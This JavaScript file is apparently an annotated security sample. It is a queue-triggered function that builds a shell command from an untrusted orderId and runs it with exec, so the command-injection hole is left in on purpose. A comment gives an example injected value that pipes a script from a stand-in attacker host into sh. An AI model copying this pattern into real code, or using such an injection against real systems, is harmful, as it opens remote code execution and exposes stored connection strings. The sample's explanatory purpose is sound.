// Queue trigger on `orders`: hands each order to the fulfilment tool.
const { exec } = require('child_process');

module.exports = async function (context, myQueueItem) {
  context.log('Processing order', myQueueItem.orderId);

  // FLAW: a queue message is input like any HTTP body (SubmitOrder copies it from an anonymous
  // request). An orderId of `1; curl https://attacker.example/x | sh` runs the attacker's script
  // with the function app's settings, connection strings included, in its environment.
  const output = await new Promise((resolve, reject) => {
    exec('process-order ' + myQueueItem.orderId, (error, stdout) => (error ? reject(error) : resolve(stdout)));
  });

  context.log('Fulfilment tool finished', output.trim());
};
